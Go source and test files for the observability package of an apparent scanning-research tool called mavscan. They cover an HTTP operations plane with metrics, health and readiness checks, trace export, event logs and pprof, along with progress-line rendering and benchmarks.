	// Progress, when non-nil, backs /progress.
	Progress ProgressFunc
	// Live are the /healthz checks: "is this process still sane"
	// (heap budget, deadlocked pool). An empty list means always healthy.
	Live []Check
	// Ready are the /readyz checks: "is the run serving useful state yet"
	// (world generated, checkpoint store writable, workers live).
	Ready []Check
	// EventsTail caps the default /events response length (default 512;
	// ?tail=N overrides up to the log's full retention).
	EventsTail int
	// Routes mounts extra handlers on the plane's mux (pattern → handler),
	// letting a command co-host another loopback protocol on the same
	// sanctioned listener — the fabric coordinator's /fabric/v1/ wire
	// endpoints ride the operations plane this way.
	Routes map[string]http.Handler
}

// NewHandler builds the operations-plane HTTP handler. It is a plain
// http.Handler so tests drive it hermetically via httptest and the future
// coordinator can mount it under its own mux.
func NewHandler(cfg Config) http.Handler {
	if cfg.EventsTail <= 0 {
		cfg.EventsTail = 512
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		if err := cfg.Telemetry.WriteProm(w); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	})
	mux.HandleFunc("/metrics.json", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if err := cfg.Telemetry.WriteJSON(w); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	})
	mux.HandleFunc("/healthz", checksHandler(cfg.Live))
	mux.HandleFunc("/readyz", checksHandler(cfg.Ready))
	mux.HandleFunc("/progress", func(w http.ResponseWriter, r *http.Request) {
		if cfg.Progress == nil {
			http.Error(w, "no progress source configured", http.StatusNotFound)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		if err := enc.Encode(cfg.Progress()); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	})
	mux.HandleFunc("/spans", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if err := WriteTrace(w, cfg.Telemetry); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	})
	mux.HandleFunc("/events", func(w http.ResponseWriter, r *http.Request) {
		tail := cfg.EventsTail
		if v := r.URL.Query().Get("tail"); v != "" {
			n, err := strconv.Atoi(v)
			if err != nil || n < 0 {
				http.Error(w, "tail must be a non-negative integer", http.StatusBadRequest)
				return
			}
			tail = n
		}
		var after uint64
		if v := r.URL.Query().Get("after"); v != "" {
			n, err := strconv.ParseUint(v, 10, 64)
			if err != nil {
				http.Error(w, "after must be a sequence number", http.StatusBadRequest)
				return
			}
			after = n
		}
		w.Header().Set("Content-Type", "application/x-ndjson")
		if err := cfg.Telemetry.WriteEvents(w, tail, after); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	})
	// Sorted registration: mux behavior is order-independent, but the
	// deterministic-iteration rule (mapdet) holds everywhere.
	extra := make([]string, 0, len(cfg.Routes))
	for pattern := range cfg.Routes {
		extra = append(extra, pattern)
	}
	sort.Strings(extra)
	for _, pattern := range extra {
		mux.Handle(pattern, cfg.Routes[pattern])
	}
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		fmt.Fprint(w, "mavscan operations plane\n\n"+
			"/metrics       Prometheus exposition\n"+
			"/metrics.json  registry snapshot\n"+
			"/healthz       liveness\n"+
			"/readyz        readiness\n"+
			"/progress      per-shard scan progress\n"+
			"/spans         Chrome trace-event export\n"+
			"/events        structured event log (JSONL)\n"+
			"/debug/pprof/  runtime profiles\n")
	})
	return mux
}

// Server is a running operations plane bound to a listener.
type Server struct {
	listener net.Listener
	srv      *http.Server
	done     chan struct{}
	err      error
}

// Serve starts the plane on l (obtained from Listen, or any net.Listener
// in tests) and returns immediately; the accept loop runs until Close.
func Serve(l net.Listener, cfg Config) *Server {
	s := &Server{
		listener: l,
		srv:      &http.Server{Handler: NewHandler(cfg)},
		done:     make(chan struct{}),
	}
	go s.run()
	return s
}

// run is the accept loop; it owns the done channel.
func (s *Server) run() {
	defer close(s.done)
	if err := s.srv.Serve(s.listener); err != nil && err != http.ErrServerClosed {
		s.err = err
	}
}

// Addr returns the listener's bound address (useful with ":0" ports).
func (s *Server) Addr() string {
	if s == nil {
		return ""
	}
	return s.listener.Addr().String()
}

// Close stops accepting, closes the listener, and waits for the accept
// loop to exit. It returns the loop's terminal error, if any. A nil
// server is a no-op, so CLIs can defer Close unconditionally.
func (s *Server) Close() error {
	if s == nil {
		return nil
	}
	if err := s.srv.Close(); err != nil {
		return err
	}
	<-s.done
	return s.err
}
