package obs

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

var update = flag.Bool("update", false, "rewrite golden files")

// buildTraceRegistry records a fixed span tree under the Sim clock:
//
//	run ─┬─ stage1 ─── worker        (worker is depth 2: inherits stage1's lane)
//	     └─ stage23
//
// with deliberate overlap between stage1 and stage23 so the lane rule is
// load-bearing, not decorative.
func buildTraceRegistry() *telemetry.Registry {
	sim := simtime.NewSim(t0)
	reg := telemetry.New(sim)
	run := reg.StartSpan("run")
	stage1 := run.Child("stage1")
	sim.Advance(10 * time.Millisecond)
	worker := stage1.Child("worker")
	stage23 := run.Child("stage23") // overlaps stage1 from here on
	sim.Advance(5 * time.Millisecond)
	worker.End()
	sim.Advance(5 * time.Millisecond)
	stage1.End()
	sim.Advance(30 * time.Millisecond)
	stage23.End()
	run.End()
	return reg
}

// TestWriteTraceGolden pins the exact Chrome trace-event export for a known
// span tree. The golden file is what chrome://tracing ("Load" button) and
// Perfetto's legacy importer consume; regenerate with
//
//	go test ./internal/obs -run WriteTraceGolden -update
func TestWriteTraceGolden(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteTrace(&buf, buildTraceRegistry()); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "trace.golden")
	if *update {
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf.Bytes(), want) {
		t.Fatalf("trace export drifted from %s (re-run with -update if intended):\n%s", golden, buf.String())
	}
}

func TestWriteTraceShape(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteTrace(&buf, buildTraceRegistry()); err != nil {
		t.Fatal(err)
	}
	var file struct {
		TraceEvents []struct {
			Name string         `json:"name"`
			Ph   string         `json:"ph"`
			Ts   int64          `json:"ts"`
			Dur  int64          `json:"dur"`
			Tid  uint64         `json:"tid"`
			Args map[string]any `json:"args"`
		} `json:"traceEvents"`
		DisplayTimeUnit string         `json:"displayTimeUnit"`
		OtherData       map[string]any `json:"otherData"`
	}
	if err := json.Unmarshal(buf.Bytes(), &file); err != nil {
		t.Fatalf("export is not valid JSON: %v", err)
	}
	if file.DisplayTimeUnit != "ms" {
		t.Fatalf("displayTimeUnit = %q", file.DisplayTimeUnit)
	}
	if file.OtherData["spanCount"].(float64) != 4 || file.OtherData["droppedSpans"].(float64) != 0 {
		t.Fatalf("otherData = %v", file.OtherData)
	}

	lanes := map[string]uint64{} // span name -> tid
	metaNames := map[uint64]string{}
	for _, ev := range file.TraceEvents {
		switch ev.Ph {
		case "X":
			lanes[ev.Name] = ev.Tid
		case "M":
			metaNames[ev.Tid] = ev.Args["name"].(string)
		default:
			t.Fatalf("unexpected phase %q", ev.Ph)
		}
	}
	// Depth ≤1 spans own a lane; the depth-2 worker inherits stage1's.
	for _, name := range []string{"run", "stage1", "stage23"} {
		if metaNames[lanes[name]] != name {
			t.Errorf("span %s does not own its lane (tid %d named %q)", name, lanes[name], metaNames[lanes[name]])
		}
	}
	if lanes["worker"] != lanes["stage1"] {
		t.Errorf("worker lane %d != stage1 lane %d; deep spans must inherit", lanes["worker"], lanes["stage1"])
	}
	// Timestamps are relative to the earliest start: the root opens at 0.
	for _, ev := range file.TraceEvents {
		if ev.Ph == "X" && ev.Name == "run" && ev.Ts != 0 {
			t.Errorf("run span ts = %d µs, want 0 (relative base)", ev.Ts)
		}
		if ev.Ph == "X" && ev.Name == "worker" && ev.Dur != 5000 {
			t.Errorf("worker dur = %d µs, want 5000", ev.Dur)
		}
	}
}

func TestWriteTraceNilRegistry(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteTrace(&buf, nil); err != nil {
		t.Fatal(err)
	}
	var file map[string]any
	if err := json.Unmarshal(buf.Bytes(), &file); err != nil {
		t.Fatalf("nil-registry export is not valid JSON: %v", err)
	}
}
