package obs

import (
	"errors"
	"fmt"
	"net/http"
	"runtime"
	"sort"
	"sync/atomic"
)

// Check is one named liveness or readiness probe. Probe returns nil when
// the condition holds; the error message is surfaced verbatim in the
// /healthz and /readyz bodies, so it should say what is wrong, not just
// that something is.
type Check struct {
	Name  string
	Probe func() error
}

// checksHandler serves one check list: 200 with "ok" when every probe
// passes, 503 listing each failing check otherwise. Output is sorted by
// check name so transcripts are stable regardless of registration order.
func checksHandler(checks []Check) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		type failure struct{ name, msg string }
		var failures []failure
		for _, c := range checks {
			if err := c.Probe(); err != nil {
				failures = append(failures, failure{c.Name, err.Error()})
			}
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		if len(failures) == 0 {
			fmt.Fprintf(w, "ok (%d checks)\n", len(checks))
			return
		}
		sort.Slice(failures, func(i, j int) bool { return failures[i].name < failures[j].name })
		w.WriteHeader(http.StatusServiceUnavailable)
		for _, f := range failures {
			fmt.Fprintf(w, "%s: %s\n", f.name, f.msg)
		}
	}
}

// Flag is an atomic readiness latch: a run flips it once a phase is
// reached (world generated, first segment journaled) and the plane's
// /readyz reports it. The nil *Flag no-ops on Set and reads as unset, so
// wiring stays unconditional like the nil telemetry registry.
type Flag struct {
	set atomic.Bool
}

// Set latches the flag.
func (f *Flag) Set() {
	if f == nil {
		return
	}
	f.set.Store(true)
}

// IsSet reports whether the flag has been latched.
func (f *Flag) IsSet() bool {
	return f != nil && f.set.Load()
}

// Check wraps the flag as a named readiness check.
func (f *Flag) Check(name string) Check {
	return Check{Name: name, Probe: func() error {
		if !f.IsSet() {
			return errors.New("not yet reached")
		}
		return nil
	}}
}

// HeapCheck returns a liveness check failing once the live heap exceeds
// maxBytes. It reads runtime.MemStats without forcing a GC, so it is
// cheap enough to probe on every /healthz hit.
func HeapCheck(maxBytes uint64) Check {
	return Check{Name: "heap", Probe: func() error {
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		if ms.HeapAlloc > maxBytes {
			return fmt.Errorf("heap %d bytes exceeds budget %d", ms.HeapAlloc, maxBytes)
		}
		return nil
	}}
}

// Pinger is anything with a cheap self-test — the checkpoint stores'
// Ping() (writability) and the progress tracker's Health() (workers live)
// both satisfy it, without obs importing the orchestrator.
type Pinger interface {
	Ping() error
}

// PingCheck wraps a Pinger as a named check. A nil pinger passes: the
// component simply isn't configured, which is not a failure.
func PingCheck(name string, p Pinger) Check {
	return Check{Name: name, Probe: func() error {
		if p == nil {
			return nil
		}
		return p.Ping()
	}}
}
