package obs

import (
	"fmt"
	"io"
	"strings"
	"time"

	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// Field is one entry of a progress line: a label and the registry series
// it reads. The three CLIs used to hand-roll near-identical stderr loops;
// they now share this renderer so fields and ordering stay consistent.
type Field struct {
	Label  string
	Series string
	// Gauge selects GaugeValue over CounterValue for the lookup.
	Gauge bool
}

// ScanProgressFields is the mavscan -metrics progress line.
var ScanProgressFields = []Field{
	{Label: "probes", Series: "mavscan_portscan_probes_total"},
	{Label: "open", Series: "mavscan_portscan_open_total"},
	{Label: "prefilter", Series: "mavscan_prefilter_probes_total"},
	{Label: "matched", Series: "mavscan_prefilter_matched_endpoints_total"},
	{Label: "findings", Series: "mavscan_tsunami_findings_total"},
	{Label: "queue", Series: "mavscan_scanner_queue_depth", Gauge: true},
}

// ObserverProgressFields is the mavobserve -metrics progress line.
var ObserverProgressFields = []Field{
	{Label: "ticks", Series: "mavscan_observer_ticks_total"},
	{Label: "vulnerable", Series: `mavscan_observer_current{state="vulnerable"}`, Gauge: true},
	{Label: "fixed", Series: `mavscan_observer_current{state="fixed"}`, Gauge: true},
	{Label: "offline", Series: `mavscan_observer_current{state="offline"}`, Gauge: true},
	{Label: "updated", Series: "mavscan_observer_updates_total"},
}

// HoneypotProgressFields is the mavpot -metrics progress line.
var HoneypotProgressFields = []Field{
	{Label: "deployed", Series: "mavscan_honeypot_deployed", Gauge: true},
	{Label: "ticks", Series: "mavscan_honeypot_ticks_total"},
	{Label: "restores", Series: "mavscan_honeypot_restores_total"},
	{Label: "events", Series: "mavscan_eslite_events_total"},
}

// ProgressLine renders one snapshot of the fields as "label=value ...",
// without any carriage-return framing, so it is equally usable as a
// stderr ticker payload and in tests.
func ProgressLine(reg *telemetry.Registry, fields []Field) string {
	var b strings.Builder
	for i, f := range fields {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(f.Label)
		b.WriteByte('=')
		if f.Gauge {
			fmt.Fprintf(&b, "%d", reg.GaugeValue(f.Series))
		} else {
			fmt.Fprintf(&b, "%d", reg.CounterValue(f.Series))
		}
	}
	return b.String()
}

// ProgressLoop rewrites the progress line on w every interval until done
// closes, then blanks it. Pacing comes from the injected Sleeper
// (simtime.Wall{} in the CLIs, simtime.Immediate in tests), so the loop
// obeys the same no-ambient-clock rule as everything else under
// internal/. It reads only snapshot accessors and never contends with
// the run's hot path.
func ProgressLoop(w io.Writer, reg *telemetry.Registry, fields []Field, sleep simtime.Sleeper, interval time.Duration, done <-chan struct{}) {
	for {
		select {
		case <-done:
			fmt.Fprintf(w, "\r%80s\r", "")
			return
		case <-sleep.After(interval):
			fmt.Fprintf(w, "\r%-80s", ProgressLine(reg, fields))
		}
	}
}
