package obs

import (
	"strings"
	"testing"
	"time"

	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

func TestProgressLine(t *testing.T) {
	reg := telemetry.New(simtime.NewSim(t0))
	reg.Counter("mavscan_portscan_probes_total").Add(100)
	reg.Counter("mavscan_portscan_open_total").Add(7)
	reg.Gauge("mavscan_scanner_queue_depth").Set(3)

	got := ProgressLine(reg, ScanProgressFields)
	want := "probes=100 open=7 prefilter=0 matched=0 findings=0 queue=3"
	if got != want {
		t.Fatalf("ProgressLine = %q, want %q", got, want)
	}
}

func TestProgressLineLabeledGauges(t *testing.T) {
	reg := telemetry.New(simtime.NewSim(t0))
	reg.Gauge(telemetry.Labeled("mavscan_observer_current", "state", "vulnerable")).Set(12)
	reg.Counter("mavscan_observer_ticks_total").Add(4)

	got := ProgressLine(reg, ObserverProgressFields)
	if !strings.Contains(got, "ticks=4") || !strings.Contains(got, "vulnerable=12") {
		t.Fatalf("ProgressLine = %q", got)
	}
}

func TestProgressLineNilRegistry(t *testing.T) {
	got := ProgressLine(nil, HoneypotProgressFields)
	want := "deployed=0 ticks=0 restores=0 events=0"
	if got != want {
		t.Fatalf("nil-registry ProgressLine = %q, want %q", got, want)
	}
}

// syncWriter counts writes and releases a waiter after the first tick, so
// the test can close done deterministically without real sleeping.
type syncWriter struct {
	strings.Builder
	first chan struct{}
	once  bool
}

func (w *syncWriter) Write(p []byte) (int, error) {
	n, _ := w.Builder.Write(p)
	if !w.once {
		w.once = true
		close(w.first)
	}
	return n, nil
}

func TestProgressLoop(t *testing.T) {
	sim := simtime.NewSim(t0)
	reg := telemetry.New(sim)
	reg.Counter("mavscan_portscan_probes_total").Add(9)

	w := &syncWriter{first: make(chan struct{})}
	done := make(chan struct{})
	finished := make(chan struct{})
	go func() {
		defer close(finished)
		ProgressLoop(w, reg, ScanProgressFields, simtime.Immediate(sim), time.Second, done)
	}()
	<-w.first
	close(done)
	<-finished

	out := w.String()
	if !strings.Contains(out, "probes=9") {
		t.Fatalf("loop output %q missing progress line", out)
	}
	if !strings.HasSuffix(out, "\r"+strings.Repeat(" ", 80)+"\r") {
		t.Fatalf("loop did not blank the line on done: %q", out[len(out)-20:])
	}
}
