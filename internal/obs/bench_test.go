package obs_test

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"mavscan/internal/obs"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/simtime"
	"mavscan/internal/study"
	"mavscan/internal/telemetry"
)

// benchScan runs one full small orchestrated scan, optionally with the
// operations plane mounted and polled hard for the whole run. One
// iteration is a complete scan, so run with -benchtime=1x; the Off/On
// delta is the serve overhead (acceptance: ≤2%).
func benchScan(b *testing.B, serve bool) {
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		reg := telemetry.New(simtime.NewSim(time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)))
		tracker := orchestrator.NewProgressTracker()

		done := make(chan struct{})
		polled := make(chan struct{})
		if serve {
			h := obs.NewHandler(obs.Config{
				Telemetry: reg,
				Progress:  func() any { return tracker.Snapshot() },
				Live:      []obs.Check{obs.HeapCheck(8 << 30)},
			})
			go func() {
				defer close(polled)
				// A hot operator: every endpoint swept 5×/s, 75× faster
				// than a default 15s Prometheus scrape yet still paced —
				// a pauseless busy-poller would just measure one core
				// spinning on the registry lock, not serving cost.
				paths := []string{"/metrics", "/progress", "/events?tail=64", "/healthz"}
				ticker := time.NewTicker(200 * time.Millisecond)
				defer ticker.Stop()
				for {
					select {
					case <-done:
						return
					case <-ticker.C:
					}
					for _, p := range paths {
						req := httptest.NewRequest(http.MethodGet, p, nil)
						rec := httptest.NewRecorder()
						h.ServeHTTP(rec, req)
						io.Copy(io.Discard, rec.Result().Body)
					}
				}
			}()
		} else {
			close(polled)
		}

		b.StartTimer()
		_, err := study.RunScan(context.Background(), study.ScanConfig{
			Population: population.Config{
				Seed: 9, HostScale: 8000, VulnScale: 8,
				BackgroundScale: -1, WildcardScale: -1,
			},
			Shards:      4,
			Parallelism: 4,
			Telemetry:   reg,
			Obs:         study.ObsConfig{Progress: tracker},
		})
		b.StopTimer()
		close(done)
		<-polled
		if err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkScanThroughputServeOff is the baseline: instrumented orchestrated
// scan, operations plane not mounted.
func BenchmarkScanThroughputServeOff(b *testing.B) { benchScan(b, false) }

// BenchmarkScanThroughputServeOn is the same scan with the plane mounted
// and scraped continuously; the delta against ServeOff is the cost of
// operating a scan observed.
func BenchmarkScanThroughputServeOn(b *testing.B) { benchScan(b, true) }
