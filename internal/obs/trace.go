package obs

import (
	"encoding/json"
	"io"
	"sort"
	"time"

	"mavscan/internal/telemetry"
)

// traceEvent is one record in Chrome's trace-event JSON format (the
// chrome://tracing / Perfetto legacy import format). Only the fields the
// viewer reads are emitted; Ph is "X" (complete event, Ts+Dur) for spans
// and "M" (metadata) for lane names.
type traceEvent struct {
	Name string         `json:"name"`
	Ph   string         `json:"ph"`
	Ts   int64          `json:"ts"` // µs since trace start
	Dur  int64          `json:"dur,omitempty"`
	Pid  int            `json:"pid"`
	Tid  uint64         `json:"tid"`
	Args map[string]any `json:"args,omitempty"`
}

// traceFile is the JSON-object envelope form of the format, which lets
// the export carry metadata (dropped-span accounting) alongside events.
type traceFile struct {
	TraceEvents     []traceEvent   `json:"traceEvents"`
	DisplayTimeUnit string         `json:"displayTimeUnit"`
	OtherData       map[string]any `json:"otherData,omitempty"`
}

// WriteTrace exports the registry's span log as Chrome trace-event JSON.
//
// Lanes: the viewer stacks events that share a tid, which collides badly
// with mavscan's span tree — stage1 and stage23 overlap in time under the
// same pipeline root, and per-shard segment spans overlap under the run
// span. So spans of depth 0 or 1 (roots and their direct children) each
// get their own lane named after the span, and deeper spans inherit their
// ancestor's lane, where the viewer nests them by time containment. A
// span whose parent was lost to the log's cap is treated as a root.
//
// Timestamps are µs relative to the earliest span start, so traces from
// the Sim clock's 2021 epoch and from wall time render alike.
func WriteTrace(w io.Writer, reg *telemetry.Registry) error {
	spans, dropped := reg.Spans()

	byID := make(map[uint64]telemetry.SpanRecord, len(spans))
	for _, s := range spans {
		byID[s.ID] = s
	}
	// lane resolves the tid for a span, memoized; depth ≤1 → own ID.
	lanes := make(map[uint64]uint64, len(spans))
	var lane func(id uint64) uint64
	lane = func(id uint64) uint64 {
		if l, ok := lanes[id]; ok {
			return l
		}
		s := byID[id]
		l := id
		if s.Parent != 0 {
			if p, ok := byID[s.Parent]; ok && p.Parent != 0 {
				l = lane(s.Parent)
			}
		}
		lanes[id] = l
		return l
	}

	var base time.Time
	for _, s := range spans {
		if base.IsZero() || s.Start.Before(base) {
			base = s.Start
		}
	}

	events := make([]traceEvent, 0, len(spans)*2)
	laneNames := make(map[uint64]string, len(spans))
	for _, s := range spans {
		tid := lane(s.ID)
		if tid == s.ID {
			laneNames[tid] = s.Name
		}
		ev := traceEvent{
			Name: s.Name,
			Ph:   "X",
			Ts:   s.Start.Sub(base).Microseconds(),
			Dur:  s.End.Sub(s.Start).Microseconds(),
			Pid:  1,
			Tid:  tid,
		}
		if s.Parent != 0 {
			ev.Args = map[string]any{"parent": s.Parent}
		}
		events = append(events, ev)
	}
	// Lane-name metadata first, sorted by tid, so the output is stable.
	tids := make([]uint64, 0, len(laneNames))
	for tid := range laneNames {
		tids = append(tids, tid)
	}
	sort.Slice(tids, func(i, j int) bool { return tids[i] < tids[j] })
	meta := make([]traceEvent, 0, len(tids))
	for _, tid := range tids {
		meta = append(meta, traceEvent{
			Name: "thread_name",
			Ph:   "M",
			Pid:  1,
			Tid:  tid,
			Args: map[string]any{"name": laneNames[tid]},
		})
	}

	file := traceFile{
		TraceEvents:     append(meta, events...),
		DisplayTimeUnit: "ms",
		OtherData: map[string]any{
			"droppedSpans": dropped,
			"spanCount":    len(spans),
		},
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(file)
}
