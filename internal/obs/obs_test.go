package obs

import (
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

var t0 = time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)

// get drives the handler hermetically and returns status, content type and
// body.
func get(t *testing.T, h http.Handler, path string) (int, string, string) {
	t.Helper()
	req := httptest.NewRequest(http.MethodGet, path, nil)
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	res := rec.Result()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res.StatusCode, res.Header.Get("Content-Type"), string(body)
}

func testRegistry() *telemetry.Registry {
	reg := telemetry.New(simtime.NewSim(t0))
	reg.Counter("mavscan_portscan_probes_total").Add(42)
	reg.Event("scan.start", "hosts", "12")
	sp := reg.StartSpan("run")
	sp.Child("stage").End()
	sp.End()
	return reg
}

func TestHandlerIndex(t *testing.T) {
	h := NewHandler(Config{})
	status, _, body := get(t, h, "/")
	if status != http.StatusOK {
		t.Fatalf("GET / status = %d", status)
	}
	for _, path := range []string{"/metrics", "/healthz", "/readyz", "/progress", "/spans", "/events", "/debug/pprof/"} {
		if !strings.Contains(body, path) {
			t.Errorf("index page does not mention %s", path)
		}
	}
	if status, _, _ := get(t, h, "/no-such-page"); status != http.StatusNotFound {
		t.Fatalf("GET /no-such-page status = %d, want 404", status)
	}
}

func TestHandlerMetrics(t *testing.T) {
	h := NewHandler(Config{Telemetry: testRegistry()})
	status, ctype, body := get(t, h, "/metrics")
	if status != http.StatusOK {
		t.Fatalf("GET /metrics status = %d", status)
	}
	if !strings.HasPrefix(ctype, "text/plain") {
		t.Fatalf("content type = %q", ctype)
	}
	if !strings.Contains(body, "mavscan_portscan_probes_total 42\n") {
		t.Fatalf("missing counter series:\n%s", body)
	}
	if !strings.Contains(body, telemetry.SpansDroppedSeries+" 0\n") ||
		!strings.Contains(body, telemetry.EventsDroppedSeries+" 0\n") {
		t.Fatalf("missing synthetic dropped series:\n%s", body)
	}
}

func TestHandlerMetricsJSON(t *testing.T) {
	h := NewHandler(Config{Telemetry: testRegistry()})
	status, ctype, body := get(t, h, "/metrics.json")
	if status != http.StatusOK || ctype != "application/json" {
		t.Fatalf("GET /metrics.json status=%d ctype=%q", status, ctype)
	}
	var snap telemetry.Snapshot
	if err := json.Unmarshal([]byte(body), &snap); err != nil {
		t.Fatalf("body is not a Snapshot: %v", err)
	}
	if snap.Counters["mavscan_portscan_probes_total"] != 42 {
		t.Fatalf("snapshot counters = %v", snap.Counters)
	}
	if len(snap.Spans) != 2 || len(snap.Events) != 1 {
		t.Fatalf("snapshot spans=%d events=%d, want 2 and 1", len(snap.Spans), len(snap.Events))
	}
}

func TestHandlerNilRegistryServesEmpty(t *testing.T) {
	h := NewHandler(Config{})
	for _, path := range []string{"/metrics", "/metrics.json", "/spans", "/events"} {
		if status, _, _ := get(t, h, path); status != http.StatusOK {
			t.Errorf("GET %s with nil registry status = %d, want 200", path, status)
		}
	}
}

func TestHandlerHealthAndReady(t *testing.T) {
	ready := &Flag{}
	h := NewHandler(Config{
		Live:  []Check{HeapCheck(1 << 40)},
		Ready: []Check{ready.Check("world")},
	})
	if status, _, body := get(t, h, "/healthz"); status != http.StatusOK || !strings.HasPrefix(body, "ok (1 checks)") {
		t.Fatalf("healthz = %d %q", status, body)
	}
	status, _, body := get(t, h, "/readyz")
	if status != http.StatusServiceUnavailable {
		t.Fatalf("readyz before Set: status = %d, want 503", status)
	}
	if !strings.Contains(body, "world: not yet reached") {
		t.Fatalf("readyz body = %q", body)
	}
	ready.Set()
	if status, _, _ := get(t, h, "/readyz"); status != http.StatusOK {
		t.Fatalf("readyz after Set: status = %d, want 200", status)
	}
}

func TestHandlerProgress(t *testing.T) {
	h := NewHandler(Config{})
	if status, _, _ := get(t, h, "/progress"); status != http.StatusNotFound {
		t.Fatalf("progress without source: status = %d, want 404", status)
	}
	h = NewHandler(Config{Progress: func() any {
		return map[string]any{"watermark": 0.5}
	}})
	status, ctype, body := get(t, h, "/progress")
	if status != http.StatusOK || ctype != "application/json" {
		t.Fatalf("progress status=%d ctype=%q", status, ctype)
	}
	var decoded map[string]float64
	if err := json.Unmarshal([]byte(body), &decoded); err != nil {
		t.Fatalf("progress body is not JSON: %v", err)
	}
	if decoded["watermark"] != 0.5 {
		t.Fatalf("progress payload = %v", decoded)
	}
}

func TestHandlerEvents(t *testing.T) {
	reg := telemetry.New(simtime.NewSim(t0))
	for _, name := range []string{"e1", "e2", "e3"} {
		reg.Event(name)
	}
	h := NewHandler(Config{Telemetry: reg})

	status, ctype, body := get(t, h, "/events")
	if status != http.StatusOK || ctype != "application/x-ndjson" {
		t.Fatalf("events status=%d ctype=%q", status, ctype)
	}
	if got := strings.Count(body, "\n"); got != 3 {
		t.Fatalf("events line count = %d, want 3", got)
	}
	if _, _, body := get(t, h, "/events?tail=1"); strings.Count(body, "\n") != 1 || !strings.Contains(body, `"event":"e3"`) {
		t.Fatalf("events?tail=1 = %q", body)
	}
	if _, _, body := get(t, h, "/events?after=2"); strings.Count(body, "\n") != 1 || !strings.Contains(body, `"event":"e3"`) {
		t.Fatalf("events?after=2 = %q", body)
	}
	for _, bad := range []string{"/events?tail=-1", "/events?tail=x", "/events?after=-3", "/events?after=x"} {
		if status, _, _ := get(t, h, bad); status != http.StatusBadRequest {
			t.Errorf("GET %s status = %d, want 400", bad, status)
		}
	}
}

func TestHandlerEventsDefaultTail(t *testing.T) {
	reg := telemetry.New(simtime.NewSim(t0))
	for i := 0; i < 600; i++ {
		reg.Event("e")
	}
	h := NewHandler(Config{Telemetry: reg})
	if _, _, body := get(t, h, "/events"); strings.Count(body, "\n") != 512 {
		t.Fatalf("default tail = %d lines, want 512", strings.Count(body, "\n"))
	}
	h = NewHandler(Config{Telemetry: reg, EventsTail: 10})
	if _, _, body := get(t, h, "/events"); strings.Count(body, "\n") != 10 {
		t.Fatalf("configured tail = %d lines, want 10", strings.Count(body, "\n"))
	}
	// tail=0 asks for the full retained log.
	if _, _, body := get(t, h, "/events?tail=0"); strings.Count(body, "\n") != 600 {
		t.Fatalf("tail=0 = %d lines, want 600", strings.Count(body, "\n"))
	}
}

func TestHandlerSpans(t *testing.T) {
	h := NewHandler(Config{Telemetry: testRegistry()})
	status, ctype, body := get(t, h, "/spans")
	if status != http.StatusOK || ctype != "application/json" {
		t.Fatalf("spans status=%d ctype=%q", status, ctype)
	}
	var file struct {
		TraceEvents []map[string]any `json:"traceEvents"`
		OtherData   map[string]any   `json:"otherData"`
	}
	if err := json.Unmarshal([]byte(body), &file); err != nil {
		t.Fatalf("spans body is not trace JSON: %v", err)
	}
	if file.OtherData["spanCount"].(float64) != 2 {
		t.Fatalf("otherData = %v", file.OtherData)
	}
}

func TestHandlerPprofIndex(t *testing.T) {
	h := NewHandler(Config{})
	if status, _, body := get(t, h, "/debug/pprof/"); status != http.StatusOK || !strings.Contains(body, "goroutine") {
		t.Fatalf("pprof index status = %d", status)
	}
}

// pipeListener is an in-memory net.Listener over net.Pipe, so Server's
// accept loop is exercised without any real socket.
type pipeListener struct {
	conns  chan net.Conn
	closed chan struct{}
}

func newPipeListener() *pipeListener {
	return &pipeListener{conns: make(chan net.Conn), closed: make(chan struct{})}
}

